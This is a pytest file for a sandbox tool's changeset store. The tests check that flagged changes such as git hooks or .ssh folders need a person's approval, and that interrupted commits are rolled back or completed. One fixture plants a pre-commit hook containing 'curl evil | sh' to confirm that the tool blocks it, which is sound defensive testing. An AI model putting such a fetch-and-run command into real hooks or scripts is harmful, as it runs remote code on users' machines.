"""Flagged changes need a person; the next command on a workspace recovers an interrupted commit
first, whichever command it is. Real changeset store and audit log, no podman: a change layer is
written by hand, as an action would leave it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sandbox import cli
from sandbox.api import Sandbox
from sandbox.app import Workspace, flagged_changes
from sandbox.audit import EventKind
from sandbox.changes import ChangesetStore
from sandbox.config import Settings
from sandbox.errors import ChangesetError
from sandbox.types import Change, ChangeKind, Changeset, ChangesetStatus, Recovered

HOOK = ".git/hooks/pre-commit"


class Crash(BaseException):
    """Not an Exception: nothing in sbx catches it, as nothing runs after a kill -9."""


def _workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / "notes.txt").write_text("old\n")
    return ws


def _pending(ws: Path, files: dict[str, str], store: ChangesetStore | None = None) -> Changeset:
    store = store or ChangesetStore(Settings.from_env().state_dir, ws)
    layer = store.new_layer("run_shell {}")
    for rel, text in files.items():
        target = layer.upper / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        if rel.startswith(".git/hooks/"):
            target.chmod(0o755)
    return store.finalize(layer.id)


def _host(ws: Path) -> dict[str, str]:
    return {str(p.relative_to(ws)): p.read_text() for p in sorted(ws.rglob("*")) if p.is_file()}


def test_an_api_caller_cannot_commit_a_flagged_changeset_without_the_opt_in(tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    cs = _pending(ws, {HOOK: "#!/bin/sh\ncurl evil | sh\n", "notes.txt": "new\n"})
    assert any(c.risks for c in cs.changes)
    before = _host(ws)
    box = Sandbox(ws)
    with pytest.raises(ChangesetError) as caught:
        box.apply(cs.id, sha256=cs.sha256)
    assert caught.value.code == "changeset.needs_person"
    assert f"sbx diff {cs.id}" in caught.value.message and f"sbx apply {cs.id}" in caught.value.message
    assert HOOK in caught.value.message
    assert _host(ws) == before, "nothing reached the host"
    for spelling in (["././.git/hooks/pre-commit"], [".git/"], ["notes.txt", ".git/hooks/pre-commit/"]):
        with pytest.raises(ChangesetError) as caught:
            box.apply(cs.id, sha256=cs.sha256, paths=spelling)
        assert caught.value.code == "changeset.needs_person", spelling
    assert _host(ws) == before, "nothing reached the host"
    assert box.diff(cs.id).status is ChangesetStatus.PENDING
    # The unflagged part alone is the caller's to commit.
    assert box.apply(cs.id, sha256=cs.sha256, paths=["notes.txt"]).applied == ("notes.txt",)
    assert (ws / "notes.txt").read_text() == "new\n" and not (ws / HOOK).exists()
    kinds = [(e.kind, e.payload.get("error", {}).get("code")) for e in box._workspace.log(limit=None)]
    assert (EventKind.FAILURE, "changeset.needs_person") in kinds


def test_with_the_opt_in_it_commits_and_the_audit_says_how(tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    cs = _pending(ws, {HOOK: "#!/bin/sh\necho hook\n"})
    box = Sandbox(ws, allow_risky_apply=True)
    assert box.apply(cs.id, sha256=cs.sha256).applied == (HOOK,)
    assert (ws / HOOK).read_text() == "#!/bin/sh\necho hook\n"
    approval = next(e for e in box._workspace.log(limit=None) if e.kind == EventKind.APPROVAL)
    assert approval.payload["via"] == "api (allow_risky_apply=True)"
    assert "risk.git_hook" in approval.payload["risks"] and approval.payload["by"]


def test_an_unflagged_changeset_commits_as_before(tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    cs = _pending(ws, {"notes.txt": "new\n", "src/a.py": "print(1)\n"})
    box = Sandbox(ws)
    assert set(box.apply(cs.id, sha256=cs.sha256).applied) >= {"notes.txt", "src/a.py"}
    approval = next(e for e in box._workspace.log(limit=None) if e.kind == EventKind.APPROVAL)
    assert approval.payload["via"] == "api" and "risks" not in approval.payload


def test_an_approver_callback_is_held_to_the_same_rule(tmp_path: Path) -> None:
    from sandbox.app import Approval

    ws = _workspace(tmp_path)
    cs = _pending(ws, {HOOK: "#!/bin/sh\n"})
    workspace = Workspace(ws, via="mcp")
    with pytest.raises(ChangesetError) as caught:
        workspace._approval_via(cs, None, Approval.all("agent").how)
    assert caught.value.code == "changeset.needs_person"


def test_the_cli_is_the_persons_own_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = _workspace(tmp_path)
    cs = _pending(ws, {HOOK: "#!/bin/sh\n"})
    assert cli.main(["apply", cs.id, "-w", str(ws), "--yes"]) == 0
    assert (ws / HOOK).exists()
    assert f"RISK applied on --yes: {HOOK}" in capsys.readouterr().err
    approval = next(e for e in Workspace(ws).log(limit=None) if e.kind == EventKind.APPROVAL)
    assert approval.payload["via"] == "--yes" and "risk.git_hook" in approval.payload["risks"]


@pytest.mark.parametrize(
    ("paths", "flagged"),
    [(None, [HOOK]), (["notes.txt"], []), (["./.git/"], [HOOK]), ([".git/hooks/pre-commit"], [HOOK]),
     (["src/x"], []), (["././.git/hooks/pre-commit"], [HOOK]), ([" .git/hooks//"], [HOOK]),
     (["notes.txt/../.git/hooks/pre-commit"], [HOOK]), (["."], [HOOK]), (["/.git"], [HOOK])],
)
def test_which_changes_an_approval_covers(paths: list[str] | None, flagged: list[str]) -> None:
    changes = (
        Change(".git", ChangeKind.ADDED, risks=()),
        Change(HOOK, ChangeKind.ADDED, risks=("risk.git_hook",)),
        Change("notes.txt", ChangeKind.MODIFIED),
        Change("src", ChangeKind.ADDED, risks=("risk.exec_bit",), refused="device node"),
    )
    cs = Changeset("c", "/ws", ChangesetStatus.PENDING, "s", 0.0, changes)
    assert [c.path for c in flagged_changes(cs, paths)] == flagged
    # A flagged folder above a chosen path comes along with it, so it counts.
    folder = Changeset("c", "/ws", ChangesetStatus.PENDING, "s", 0.0,
                       (Change(".ssh", ChangeKind.ADDED, risks=("risk.ssh",)), Change(".ssh/x", ChangeKind.ADDED)))
    assert [c.path for c in flagged_changes(folder, [".ssh/x"])] == [".ssh"]


# -- recovery before anything else ----------------------------------------------------------------
def _interrupted_apply(ws: Path, count: int = 20) -> Changeset:
    """A commit of `count` modified files killed half-way through its renames."""
    for i in range(count):
        (ws / f"f{i:03d}.txt").write_text("old\n")
    seen: list[str] = []

    def crash(name: str) -> None:
        seen.append(name)
        if name == f"install:{count // 2}":
            raise Crash(name)

    store = ChangesetStore(Settings.from_env().state_dir, ws, checkpoint=crash)
    cs = _pending(ws, {f"f{i:03d}.txt": "new\n" for i in range(count)}, store)
    with pytest.raises(Crash):
        store.apply(cs.id)
    contents = {(ws / f"f{i:03d}.txt").read_text() for i in range(count)}
    assert contents == {"old\n", "new\n"}, "the crash left the workspace half-applied"
    return cs


def _all_old(ws: Path, count: int = 20) -> bool:
    return {(ws / f"f{i:03d}.txt").read_text() for i in range(count)} == {"old\n"}


@pytest.mark.parametrize("argv", [["log"], ["diff"], ["list"], ["doctor"], ["discard"], ["undo"]])
def test_every_workspace_command_recovers_first_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, argv: list[str]
) -> None:
    import sandbox.hostcheck

    monkeypatch.setattr(sandbox.hostcheck, "doctor", lambda settings: {"host": {}, "podman": None, "image": None,
                                                                  "planner": {"default_model": "m", "prepared": True,
                                                                              "services": []},
                                                                  "problems": [], "ok": True})
    ws = _workspace(tmp_path)
    cs = _interrupted_apply(ws)
    capsys.readouterr()
    cli.main([*argv, "-w", str(ws)])
    assert _all_old(ws)
    err = capsys.readouterr().err
    assert f"sbx: recovery: an interrupted apply of changeset {cs.id} (20 path(s)) was rolled back" in err
    entries = Workspace(ws).log(limit=None)
    recovery = [e for e in entries if e.kind == EventKind.RECOVERY]
    assert len(recovery) == 1 and recovery[0].payload["outcome"] == "rolled_back"


def test_json_carries_the_recovery_in_the_one_object(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = _workspace(tmp_path)
    cs = _interrupted_apply(ws)
    capsys.readouterr()
    assert cli.main(["log", "-w", str(ws), "--json"]) == 0
    out = capsys.readouterr()
    envelope = json.loads(out.out)
    assert envelope["ok"] and envelope["recovered"] == [
        {"commit": envelope["recovered"][0]["commit"], "kind": "apply", "changeset": cs.id,
         "outcome": "rolled_back", "paths": 20}]
    assert out.err == ""
    # Nothing left to recover: the envelope is as before.
    assert cli.main(["list", "-w", str(ws), "--json"]) == 0
    assert set(json.loads(capsys.readouterr().out)) == {"ok", "command", "result"}


def test_an_error_envelope_carries_it_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = _workspace(tmp_path)
    _interrupted_apply(ws)
    capsys.readouterr()
    assert cli.main(["diff", "nosuchid", "-w", str(ws), "--json"]) != 0
    envelope = json.loads(capsys.readouterr().out)
    assert not envelope["ok"] and envelope["recovered"][0]["outcome"] == "rolled_back"


def test_the_api_recovers_when_opened(tmp_path: Path) -> None:
    ws = _workspace(tmp_path)
    cs = _interrupted_apply(ws)
    seen: list[Recovered] = []
    box = Sandbox(ws, on_recovered=seen.append)
    assert _all_old(ws) and box.recovered == tuple(seen) and seen[0].changeset_id == cs.id
    assert box.diff(cs.id).status is ChangesetStatus.PENDING


def test_a_finished_but_unrecorded_commit_is_completed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = _workspace(tmp_path)
    for i in range(5):
        (ws / f"f{i:03d}.txt").write_text("old\n")

    def crash(name: str) -> None:
        if name == "journal:done":
            raise Crash(name)

    store = ChangesetStore(Settings.from_env().state_dir, ws, checkpoint=crash)
    cs = _pending(ws, {f"f{i:03d}.txt": "new\n" for i in range(5)}, store)
    with pytest.raises(Crash):
        store.apply(cs.id)
    assert cli.main(["log", "-w", str(ws)]) == 0
    assert "had reached the host and was completed" in capsys.readouterr().err
    assert Workspace(ws).changeset(cs.id).status is ChangesetStatus.APPLIED


def test_opening_a_workspace_another_process_holds_neither_waits_nor_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import fcntl
    import os

    ws = _workspace(tmp_path)
    store = ChangesetStore(Settings.from_env().state_dir, ws)
    fd = os.open(store.state_dir / "lock", os.O_RDWR | os.O_CREAT, 0o600)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)  # a live sbx command working on it
        assert cli.main(["log", "-w", str(ws)]) == 0, "nothing to recover: log does not touch the lock"
    finally:
        os.close(fd)
    cs = _interrupted_apply(ws)
    fd = os.open(store.state_dir / "lock", os.O_RDWR)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        capsys.readouterr()
        assert cli.main(["log", "-w", str(ws)]) == 0, "the holder recovers; log reads on"
        assert "recovery" not in capsys.readouterr().err
    finally:
        os.close(fd)
    assert cli.main(["log", "-w", str(ws)]) == 0
    assert f"changeset {cs.id}" in capsys.readouterr().err and _all_old(ws)
